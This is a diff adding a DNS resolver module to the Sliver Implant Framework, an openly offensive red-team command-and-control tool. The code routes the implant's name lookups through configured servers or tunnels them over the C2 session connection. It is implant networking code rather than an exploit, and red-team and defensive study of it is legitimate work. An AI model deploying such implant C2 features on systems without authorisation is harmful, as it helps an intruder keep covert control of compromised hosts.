@@ -0,0 +1,241 @@
+package resolver
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"bytes"
+	"context"
+	"encoding/binary"
+	"errors"
+	"net"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"google.golang.org/protobuf/proto"
+)
+
+const (
+	// C2 - Resolve through the server, over the session's connection
+	C2 = "c2"
+
+	exchangeTimeout = 10 * time.Second
+)
+
+var (
+	mutex   = &sync.RWMutex{}
+	servers = []string{}
+
+	// send - The session's connection, nil when there isn't one
+	send chan<- *sliverpb.Envelope
+
+	// exchanges - ID -> chan *sliverpb.DNSExchange of every pending c2 exchange
+	exchanges  = &sync.Map{}
+	exchangeID = uint64(0)
+
+	errNoConnection = errors.New("no c2 connection")
+	errNoReply      = errors.New("no dns message to reply to")
+)
+
+// The go resolver is installed once, before anything else can look up a name, since
+// net.DefaultResolver can't be swapped safely later on. Without any servers its dns
+// connections go to the system's servers.
+func init() {
+	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: dial}
+	// {{if .Config.DNSResolvers}}
+	Set(strings.Split("{{.Config.DNSResolvers}}", ","))
+	// {{end}}
+}
+
+// Set - Resolve names through the servers (host:port or C2) instead of the system's
+// servers, they're tried in order. An empty list restores the system's servers.
+func Set(resolvers []string) {
+	mutex.Lock()
+	defer mutex.Unlock()
+	servers = []string{}
+	for _, server := range resolvers {
+		server = strings.TrimSpace(server)
+		if server == "" {
+			continue
+		}
+		if server != C2 {
+			if _, _, err := net.SplitHostPort(server); err != nil {
+				server = net.JoinHostPort(server, "53")
+			}
+		}
+		servers = append(servers, server)
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[resolver] servers %v", servers)
+	// {{end}}
+}
+
+// Servers - The current resolvers, empty when the system's servers are used
+func Servers() []string {
+	mutex.RLock()
+	defer mutex.RUnlock()
+	return append([]string{}, servers...)
+}
+
+// SetConnection - Set the session's connection that C2 resolves through, nil when
+// the session ends
+func SetConnection(connection chan<- *sliverpb.Envelope) {
+	mutex.Lock()
+	defer mutex.Unlock()
+	send = connection
+}
+
+// dial - Connect to the first available resolver, C2 is skipped without a session
+// (e.g. to resolve the c2 domain) and the system's server is the last resort
+func dial(ctx context.Context, network string, address string) (net.Conn, error) {
+	mutex.RLock()
+	resolvers, connection := servers, send
+	mutex.RUnlock()
+	dialer := &net.Dialer{}
+	err := errNoConnection
+	for _, server := range resolvers {
+		if server == C2 {
+			if connection != nil {
+				return &c2Conn{send: connection}, nil
+			}
+			continue
+		}
+		var conn net.Conn
+		conn, err = dialer.DialContext(ctx, network, server)
+		if err == nil {
+			return conn, nil
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[resolver] failed to connect to %s: %s", server, err)
+		// {{end}}
+	}
+	if err != errNoConnection {
+		return nil, err
+	}
+	return dialer.DialContext(ctx, network, address)
+}
+
+// Deliver - Deliver the server's reply to a c2 exchange
+func Deliver(exchange *sliverpb.DNSExchange) {
+	if reply, ok := exchanges.LoadAndDelete(exchange.ID); ok {
+		reply.(chan *sliverpb.DNSExchange) <- exchange
+	}
+}
+
+// c2Conn - Sends dns messages to the server, it's a stream so the go resolver
+// length prefixes the messages like dns over tcp
+type c2Conn struct {
+	send     chan<- *sliverpb.Envelope
+	deadline time.Time
+
+	writeBuf bytes.Buffer
+	readBuf  bytes.Buffer
+}
+
+func (c *c2Conn) Write(data []byte) (int, error) {
+	c.writeBuf.Write(data)
+	for 2 <= c.writeBuf.Len() {
+		size := int(binary.BigEndian.Uint16(c.writeBuf.Bytes()))
+		if c.writeBuf.Len() < 2+size {
+			break
+		}
+		message := make([]byte, size)
+		copy(message, c.writeBuf.Bytes()[2:])
+		c.writeBuf.Next(2 + size)
+		reply, err := c.exchange(message)
+		if err != nil {
+			return 0, err
+		}
+		binary.Write(&c.readBuf, binary.BigEndian, uint16(len(reply)))
+		c.readBuf.Write(reply)
+	}
+	return len(data), nil
+}
+
+// exchange - Send a message to the server and wait for the reply
+func (c *c2Conn) exchange(message []byte) ([]byte, error) {
+	id := atomic.AddUint64(&exchangeID, 1)
+	data, err := proto.Marshal(&sliverpb.DNSExchange{ID: id, Message: message})
+	if err != nil {
+		return nil, err
+	}
+	reply := make(chan *sliverpb.DNSExchange, 1)
+	exchanges.Store(id, reply)
+	defer exchanges.Delete(id)
+
+	timeout := exchangeTimeout
+	if !c.deadline.IsZero() && time.Until(c.deadline) < timeout {
+		timeout = time.Until(c.deadline)
+	}
+	timer := time.NewTimer(timeout)
+	defer timer.Stop()
+	select {
+	case c.send <- &sliverpb.Envelope{Type: sliverpb.MsgDNSExchange, Data: data}:
+	case <-timer.C:
+		return nil, context.DeadlineExceeded
+	}
+	select {
+	case exchange := <-reply:
+		if exchange.Err != "" {
+			return nil, errors.New(exchange.Err)
+		}
+		return exchange.Message, nil
+	case <-timer.C:
+		return nil, context.DeadlineExceeded
+	}
+}
+
+func (c *c2Conn) Read(data []byte) (int, error) {
+	if c.readBuf.Len() == 0 {
+		return 0, errNoReply
+	}
+	return c.readBuf.Read(data)
+}
+
+func (c *c2Conn) Close() error {
+	return nil
+}
+
+func (c *c2Conn) LocalAddr() net.Addr {
+	return &net.TCPAddr{}
+}
+
+func (c *c2Conn) RemoteAddr() net.Addr {
+	return &net.TCPAddr{}
+}
+
+func (c *c2Conn) SetDeadline(t time.Time) error {
+	c.deadline = t
+	return nil
+}
+
+func (c *c2Conn) SetReadDeadline(t time.Time) error {
+	return nil
+}
+
+func (c *c2Conn) SetWriteDeadline(t time.Time) error {
+	c.deadline = t
+	return nil
+}